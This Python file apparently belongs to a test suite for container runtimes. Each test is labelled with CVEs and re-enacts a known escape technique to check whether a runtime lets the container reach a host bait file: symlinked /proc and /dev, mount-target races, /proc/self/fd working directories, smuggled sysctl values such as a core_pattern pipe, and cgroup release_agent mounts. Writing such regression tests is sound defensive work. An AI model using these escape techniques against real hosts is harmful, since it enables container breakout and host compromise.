# SPDX-License-Identifier: LGPL-2.1-or-later
"""The attacks: each is a function that prepares the ground, lets the runtime act, and raises Escaped if it got out.

A runtime stands if it refuses, and as well if it starts the container and nothing of the host was reached.
"""

import json
import os
import stat
import subprocess
import sys
from pathlib import Path

import harness
from ground import SECRET, Escaped

RACES = int(os.environ.get("SCTR_TEST_RACES", "40"))
FDS = range(3, 20)
UP = "../" * 20

ATTACKS = {}


def attack(*cves):
    def add(function):
        function.cves = cves
        ATTACKS[function.__name__] = function
        return function

    return add


def escaped_if(condition, how):
    if condition:
        raise Escaped(how)


def stays_procfs(ground, name):
    """What should have been mounted at /NAME must be there, and the bait untouched."""
    kind = {"proc": "proc", "sys": "sysfs", "dev": "tmpfs"}[name]
    result = ground.run("sh", "-c", f"stat -f -c %T /{name}; cat /{name}/file")
    escaped_if(SECRET in result.stdout, "showed a file of the host")
    if result.status == 0 or result.stdout:
        escaped_if(result.stdout.split()[0] != kind, f"/{name} is {result.stdout.split()[0]}, not {kind}")


@attack("2019-16884", "2019-19921", "2023-27561", "2023-28642")
def proc_is_a_symlink_in_the_image(ground):
    ground.symlink("proc", ground.bait)
    stays_procfs(ground, "proc")


@attack("2023-27561", "2023-28642")
def proc_is_a_symlink_to_a_directory_of_the_image(ground):
    (ground.rootfs / "fake").mkdir()
    ground.symlink("proc", "fake")
    result = ground.run("sh", "-c", "stat -f -c %T /fake/.; readlink /proc")
    escaped_if(result.stdout.startswith("proc"), "mounted procfs where the image's link says")


@attack("2019-19921")
def sys_is_a_symlink_in_the_image(ground):
    ground.symlink("sys", ground.bait)
    stays_procfs(ground, "sys")


@attack("2026-41579", "2026-47766")
def dev_is_a_symlink_in_the_image(ground):
    ground.symlink("dev", ground.bait)
    # Without a mount over it the runtime makes its nodes and links where the link leads.
    ground.config["mounts"] = [each for each in ground.config["mounts"] if each["destination"] != "/dev"]
    ground.run("true")


@attack("2026-41579", "2026-47766")
def dev_is_a_symlink_with_a_mount_on_it(ground):
    ground.symlink("dev", ground.bait)
    ground.run("true")


def own_dev(ground, *missing):
    """A volume of the attacker's over /dev: what is in it stays as it is."""
    path = ground.path / "dev"
    (path / "pts").mkdir(parents=True)
    (path / "shm").mkdir()
    nodes = {"null": (1, 3), "zero": (1, 5), "full": (1, 7), "random": (1, 8), "urandom": (1, 9), "tty": (5, 0)}
    for name in nodes.keys() - set(missing):
        os.mknod(path / name, 0o666 | stat.S_IFCHR, os.makedev(*nodes[name]))
    ground.mount("/dev", path)
    return path


def add_terminals(ground, dev):
    (dev / "ptmx").symlink_to("pts/ptmx")
    options = ["newinstance", "ptmxmode=0666", "mode=0620"]
    ground.config["mounts"].append(
        {"destination": "/dev/pts", "type": "devpts", "source": "devpts", "options": options}
    )


@attack("2025-31133")
def dev_null_is_a_symlink_under_a_mask(ground):
    (own_dev(ground, "null") / "null").symlink_to("/proc/sys/kernel/core_pattern")
    ground.config["linux"]["maskedPaths"] = ["/proc/interrupts"]
    result = ground.run("sh", "-c", "stat -c %t:%T /proc/interrupts; cat /proc/interrupts")
    escaped_if(
        result.stdout and result.stdout.split()[0] != "1:3",
        "the mask is a writable /proc/sys/kernel/core_pattern",
    )


@attack("2025-31133")
def dev_null_is_a_symlink_to_a_file_under_a_mask(ground):
    (own_dev(ground, "null") / "null").symlink_to("/etc/passwd")
    ground.config["linux"]["maskedPaths"] = ["/proc/interrupts"]
    result = ground.run("cat", "/proc/interrupts")
    escaped_if("root:" in result.stdout, "the mask shows a file of the attacker's choice")


@attack("2025-52565")
def dev_console_is_a_symlink(ground):
    dev = own_dev(ground)
    (dev / "console").symlink_to(ground.bait / "file")
    add_terminals(ground, dev)
    ground.run_on_a_terminal("sh", "-c", "echo x > /dev/console")


@attack("2025-52565")
def dev_console_is_a_symlink_to_proc(ground):
    dev = own_dev(ground)
    (dev / "console").symlink_to("/proc/sys/kernel/core_pattern")
    add_terminals(ground, dev)
    ground.config["linux"]["readonlyPaths"] = ["/proc/sys"]
    result = ground.run_on_a_terminal("sh", "-c", "stat -c %F /proc/sys/kernel/core_pattern")
    escaped_if("character" in result.stdout, "the terminal lies over a file of /proc")


@attack("2025-52565")
def dev_pts_is_a_symlink(ground):
    dev = own_dev(ground)
    (dev / "pts").rmdir()
    (dev / "pts").symlink_to(ground.bait)
    add_terminals(ground, dev)
    result = ground.run_on_a_terminal("sh", "-c", "cat /dev/pts/file")
    escaped_if(SECRET in result.stdout, "showed a file of the host")


@attack("2025-52565")
def dev_ptmx_is_a_symlink_to_the_hosts(ground):
    dev = own_dev(ground)
    (dev / "pts/ptmx").symlink_to("/proc/self/root/dev/ptmx")
    (dev / "ptmx").symlink_to(ground.bait / "file")
    ground.run_on_a_terminal("sh", "-c", "echo x > /dev/ptmx")


@attack("2026-41579")
def dev_shm_and_mqueue_are_symlinks(ground):
    dev = own_dev(ground)
    (dev / "shm").rmdir()
    (dev / "shm").symlink_to(ground.bait)
    (dev / "mqueue").symlink_to(ground.bait)
    ground.config["mounts"] += [
        {"destination": "/dev/shm", "type": "tmpfs", "source": "shm", "options": ["mode=1777"]},
        {"destination": "/dev/mqueue", "type": "mqueue", "source": "mqueue"},
    ]
    result = ground.run("sh", "-c", "touch /dev/shm/new; cat /dev/shm/file /dev/mqueue/file")
    escaped_if(SECRET in result.stdout, "showed a file of the host")


@attack("2019-18837", "2024-45310")
def the_last_part_of_a_mount_target_is_a_symlink(ground):
    ground.symlink("link", ground.bait)
    ground.mount("/link/new-file", "/etc/hostname")
    ground.mount("/link/new-directory", "/etc")
    ground.run("true")


@attack("2019-18837", "2024-45310")
def a_mount_target_is_a_dangling_symlink(ground):
    ground.symlink("link", ground.bait / "made")
    ground.mount("/link", "/etc/hostname")
    ground.run("true")


@attack("2024-45310")
def a_mount_target_climbs(ground):
    ground.symlink("link", UP + str(ground.bait))
    ground.mount("/link/new", "/etc")
    ground.run("true")


def race(ground, first, second, look):
    """Starts while both names are swapped; look(RESULT) judges each."""
    swapper = subprocess.Popen([sys.executable, Path(__file__).with_name("swap.py"), first, second])
    try:
        for _ in range(RACES):
            look(ground.run("cat", "/proc/self/mountinfo"))
            ground.check_bait()
    finally:
        swapper.kill()
        swapper.wait()
    started = ground.outcome.count("started")
    ground.outcome = [f"{started} of {len(ground.outcome)} started"]


@attack("2021-30465", "2024-45310")
def a_mount_target_is_swapped_for_a_link_to_the_host(ground):
    (ground.rootfs / "race").mkdir()
    (ground.rootfs / "other").symlink_to(ground.bait)
    ground.mount("/race/new", "/etc/hostname")

    def look(result):
        inside = any("/new " in line.split(" - ")[0] + " " for line in result.lines)
        escaped_if(result.status == 0 and not inside, "mounted outside the container's root")

    race(ground, ground.rootfs / "race", ground.rootfs / "other", look)


@attack("2021-30465")
def a_mount_target_is_swapped_for_a_link_to_the_root(ground):
    """The original: the volume lands on what other mounts of the container begin with."""
    (ground.rootfs / "race").mkdir()
    (ground.rootfs / "other").symlink_to("/")
    ground.mount("/race", "marker", "size=12k", kind="tmpfs")

    def look(result):
        if result.status == 0:
            inside = any(" marker " in line for line in result.lines)
            escaped_if(not inside, "mounted outside the container's root")

    race(ground, ground.rootfs / "race", ground.rootfs / "other", look)


@attack("2023-27561", "2025-52881")
def proc_is_swapped_for_a_symlink(ground):
    """A writable volume, shared with another container, has the mount point of procfs."""
    (ground.rootfs / "fake").mkdir()
    (ground.rootfs / "swapped").symlink_to("fake")

    def look(result):
        # The command is read through /proc itself: without procfs there, it shows nothing.
        escaped_if(result.status == 0 and " - proc " not in result.stdout, "runs without a /proc")

    race(ground, ground.rootfs / "proc", ground.rootfs / "swapped", look)


def tries_to_write_the_runtime(ground, act):
    """A payload that lies in wait for a program of the host's and writes to it."""
    with ground.started("probe", "seize") as container:
        act(container)
        ground.call("kill", container.name, "KILL")
        rest = container.seen + container.process.stdout.read()
    for line in rest.decode(errors="replace").splitlines():
        escaped_if(line.startswith("written"), line)


@attack("2019-5736", "2022-0847")
def the_runtime_is_overwritten_during_exec(ground):
    def act(container):
        for _ in range(10):
            ground.exec(container, "true")

    tries_to_write_the_runtime(ground, act)


@attack("2019-5736")
def exec_of_the_runtime_itself(ground):
    """The command that exec is asked for is /proc/self/exe: the runtime would run inside, and be seized there."""
    ground.symlink("bin/innocent", "/proc/self/exe")

    def act(container):
        for _ in range(10):
            result = ground.exec(container, "innocent", "--version")
            escaped_if("spec:" in result.stdout, "ran the runtime inside the container")

    tries_to_write_the_runtime(ground, act)


@attack("2019-5736")
def the_command_is_the_runtime(ground):
    ground.symlink("bin/innocent", "/proc/self/exe")
    result = ground.run("innocent", "--version")
    escaped_if("spec:" in result.stdout, "ran the runtime inside the container")


@attack("2024-21626")
def the_working_directory_is_an_open_file_of_the_runtime(ground):
    for fd in FDS:
        ground.config["process"]["cwd"] = f"/proc/self/fd/{fd}"
        result = ground.run("sh", "-c", f"cat {UP}{ground.bait}/file")
        escaped_if(SECRET in result.stdout, f"cwd /proc/self/fd/{fd} is a directory of the host")
    ground.outcome = sorted(set(ground.outcome))[:1]


@attack("2024-21626")
def the_working_directory_is_a_link_to_an_open_file(ground):
    for fd in FDS:
        ground.symlink("work", f"/proc/self/fd/{fd}")
        ground.config["process"]["cwd"] = "/work"
        result = ground.run("sh", "-c", f"cat {UP}{ground.bait}/file")
        escaped_if(SECRET in result.stdout, f"cwd /proc/self/fd/{fd} is a directory of the host")
    ground.outcome = sorted(set(ground.outcome))[:1]


@attack("2024-21626")
def exec_with_the_working_directory_in_an_open_file(ground):
    words = ("sh", "-c", f"cat {UP}{ground.bait}/file")
    with ground.started() as container:
        for fd in FDS:
            path = f"/proc/self/fd/{fd}"
            for result in (
                ground.exec(container, *words, flags=("--cwd", path)),
                ground.exec(container, *words, cwd=path),
            ):
                escaped_if(SECRET in result.stdout, f"cwd {path} is a directory of the host")
    ground.outcome = sorted(set(ground.outcome) - {"started"})[:1]


@attack("2024-21626")
def the_command_is_below_an_open_file_of_the_runtime(ground):
    """The kernel looks a command and its interpreter up before it closes anything."""
    for fd in FDS:
        path = f"/proc/self/fd/{fd}/{UP}{ground.bait}/program"
        ground.symlink("bin/evil", path)
        script = ground.rootfs / "bin/script"
        script.write_text(f"#!{path}\n")
        script.chmod(0o755)
        for command in ("evil", "script"):
            result = ground.run(command)
            escaped_if(result.status == 0, f"ran a program of the host by fd {fd}")
    ground.outcome = sorted(set(ground.outcome))[:1]


@attack("2022-29162", "2022-27650")
def inheritable_capabilities(ground):
    with ground.started() as container:
        for flags in ((), ("--cap", "CAP_NET_ADMIN")):
            result = ground.exec(container, "grep", "CapInh", "/proc/self/status", flags=flags)
            if result.status == 0:
                escaped_if(int(result.stdout.split()[1], 16), f"exec {' '.join(flags)}: {result.stdout.strip()}")


@attack("2023-25809", "2022-0492")
def the_hosts_cgroups_in_a_user_namespace(ground):
    """Without a cgroup namespace the whole tree is there: it must not be writable."""
    linux = ground.config["linux"]
    mapping = [{"containerID": 0, "hostID": 0, "size": 65536}]
    linux["uidMappings"] = linux["gidMappings"] = mapping
    linux["namespaces"] = [each for each in linux["namespaces"] if each["type"] not in ("cgroup", "network")]
    linux["namespaces"].append({"type": "user"})
    for mount in ground.config["mounts"]:
        if mount["type"] == "sysfs":
            mount.update(type="none", source="/sys", options=["rbind", "ro"])
    result = ground.run(
        "sh", "-c", "mkdir /sys/fs/cgroup/escaped && echo made; rmdir /sys/fs/cgroup/escaped; exit 0"
    )
    escaped_if("made" in result.stdout, "made a cgroup of the host")


@attack("2022-0492")
def release_agent(ground):
    script = "mkdir /tmp/c && mount -t cgroup -o rdma cgroup /tmp/c && echo mounted; unshare -UrC sh -c 'mount -t cgroup -o rdma cgroup /tmp/c && echo mounted'; exit 0"
    result = ground.run("sh", "-c", script)
    escaped_if("mounted" in result.stdout, "mounted a cgroup v1 tree, which has a release_agent")


@attack("2025-52881", "2026-115520", "2026-115521")
def a_sysctl_into_a_proc_of_the_attackers(ground):
    fake = ground.path / "fake"
    (fake / "sys/net/ipv4").mkdir(parents=True)
    caught = fake / "sys/net/ipv4/ip_forward"
    caught.symlink_to(ground.bait / "file")
    ground.mount("/proc", fake)
    ground.config["linux"]["sysctl"] = {"net.ipv4.ip_forward": "1"}
    ground.run("true")


@attack("2025-52881", "2026-115520", "2026-115521")
def a_sysctl_into_a_volume_over_proc_sys(ground):
    fake = ground.path / "fake"
    (fake / "ipv4").mkdir(parents=True)
    caught = fake / "ipv4/ip_forward"
    caught.write_text("0")
    ground.mount("/proc/sys/net", fake)
    ground.config["linux"]["sysctl"] = {"net.ipv4.ip_forward": "1"}
    ground.run("true")
    escaped_if(caught.read_text() != "0", "wrote a sysctl into a file of the attacker's")


@attack("2025-52881", "2026-115520")
def a_read_only_path_that_is_a_link_to_an_open_file(ground):
    """A read-only remount that goes by a path of the container's own procfs hits something else."""
    ground.symlink("protected", "/proc/self/fd/5")
    ground.config["linux"]["readonlyPaths"] = ["/protected", "/proc/sys"]
    result = ground.run("probe", "open", "w", "/proc/sys/kernel/hostname")
    escaped_if("ok" in result.stdout.split(), "/proc/sys is writable")


@attack("2022-0811")
def a_sysctl_that_smuggles_another(ground):
    before = Path("/proc/sys/kernel/core_pattern").read_text()
    for name, value in (
        ("kernel.shm_rmid_forced", "1+kernel.core_pattern=|/bin/false"),
        ("kernel.shm_rmid_forced", "1\nkernel.core_pattern=|/bin/false"),
        ("kernel/../kernel/core_pattern", before.strip()),
        ("net.ipv4/../../kernel/core_pattern", before.strip()),
        ("net/../kernel/core_pattern", before.strip()),
        ("kernel.core_pattern", before.strip()),
    ):
        ground.config["linux"]["sysctl"] = {name: value}
        result = ground.run("true")
        escaped_if(Path("/proc/sys/kernel/core_pattern").read_text() != before, "changed a sysctl of the host")
        escaped_if(result.status == 0 and "core_pattern" in name, f"{name} was written")
    ground.outcome = sorted(set(ground.outcome))[:1]


@attack("2026-30892")
def exec_with_an_odd_user(ground):
    """What is no number of an account must not become root, nor somebody else."""
    with ground.started() as container:
        for user in ("0x3e8", "1e3", ":", "1000:", "-1", "4294967296", "4294967295", "1000 ", "abc", "18446744073709551616"):
            result = ground.exec(container, "id", "-u", flags=("--user", user))
            escaped_if(result.status == 0, f"exec --user {user!r} ran as {result.stdout.strip()}")
    ground.outcome = sorted(set(ground.outcome) - {"started"})[:1]


@attack("2016-9962")
def exec_is_traced_by_the_payload(ground):
    """Who joins the container is opened before it has become the command: its fds lead to the host."""
    script = (
        "trap 'exit 0' TERM; echo ready; while :; do for d in /proc/[0-9]*/fd/*; do "
        f"cat $d/{UP}{ground.bait}/file 2>/dev/null; done; done"
    )
    with ground.started("sh", "-c", script) as container:
        for _ in range(10):
            ground.exec(container, "true")
        ground.call("kill", container.name, "KILL")
        rest = container.seen + container.process.stdout.read()
    escaped_if(SECRET.encode() in rest, "read a file of the host through an fd of the runtime's")


@attack("2020-15257")
def abstract_sockets_of_the_runtime(ground):
    """A container in the host's network namespace reaches every socket that has no file."""
    linux = ground.config["linux"]
    linux["namespaces"] = [each for each in linux["namespaces"] if each["type"] != "network"]
    ground.config["mounts"] = [each for each in ground.config["mounts"] if each["type"] != "sysfs"]
    before = abstract_sockets()
    with ground.started() as container:
        ground.exec(container, "true")
        new = abstract_sockets() - before
    escaped_if(new, f"listens on {sorted(new)}")


def abstract_sockets():
    """Names without a file, of sockets that listen."""
    lines = Path("/proc/net/unix").read_text().splitlines()[1:]
    return {line.split()[7] for line in lines if len(line.split()) > 7 and line.split()[3] == "00010000" and "@" in line}


@attack("2021-43784")
def a_value_that_does_not_fit_its_length(ground):
    """Lengths of 16 bits wrap: what follows is read as something else, as the namespaces of the process."""
    ground.config["annotations"] = {"long": "x" * 70000}
    ground.config["hostname"] = "h"
    linux = ground.config["linux"]
    linux["uidMappings"] = linux["gidMappings"] = [
        {"containerID": each, "hostID": 100000 + each, "size": 1} for each in range(300)
    ]
    linux["namespaces"].append({"type": "user"})
    ground.config["process"]["env"] += [f"LONG{each}=" + "y" * 65536 for each in range(3)]
    result = ground.run("sh", "-c", "cat /proc/self/uid_map | wc -l")
    escaped_if(result.status == 0 and result.stdout.strip() != "300", "lost id mappings")


@attack("2017-16539", "2018-10892")
def the_hosts_devices_through_proc_and_sys(ground):
    """What the config masks is masked, whatever it is."""
    masked = ["/proc/scsi", "/proc/acpi", "/proc/kcore", "/proc/keys", "/proc/timer_list", "/sys/firmware"]
    ground.config["linux"]["maskedPaths"] = masked
    result = ground.run("sh", "-c", f"for path in {' '.join(masked)}; do test -d $path && ls $path || head -c 1 $path; done")
    escaped_if(result.stdout.strip(), f"shows {result.stdout.strip()[:40]!r}")


@attack("2019-14271", "2022-1227")
def the_hosts_tools_are_the_payloads(ground):
    """`ps` and the like must not run, or load, what the image brings."""
    for name in ("ps", "tar", "sh.evil"):
        path = ground.rootfs / "bin" / name
        if os.path.lexists(path):
            path.unlink()
        path.write_text(f"#!/bin/sh\necho x > {ground.bait}/made\necho x > /made-inside\n")
        path.chmod(0o755)
    with ground.started() as container:
        for words in (("ps", container.name), ("ps", "--format", "json", container.name), ("state", container.name), ("events", "--stats", container.name)):
            ground.call(*words)
    escaped_if((ground.rootfs / "made-inside").exists(), "ran a program of the image's")


@attack("2019-5736")
def files_that_the_caller_left_open(ground):
    """Fds of the caller's are neither in the container, nor in what exec adds."""
    with open(ground.bait / "file") as file:
        os.set_inheritable(file.fileno(), True)
        with ground.started() as container:
            first = harness.host("ls", "-l", f"/proc/{init_of(ground, container)}/fd")
            result = ground.exec(container, "sh", "-c", "ls -l /proc/self/fd")
    for text in (first, result.stdout):
        escaped_if(str(ground.bait) in text or str(ground.path / "state") in text, f"has {text}")


def init_of(ground, container):
    return json.loads(ground.call("state", container.name).ok())["pid"]
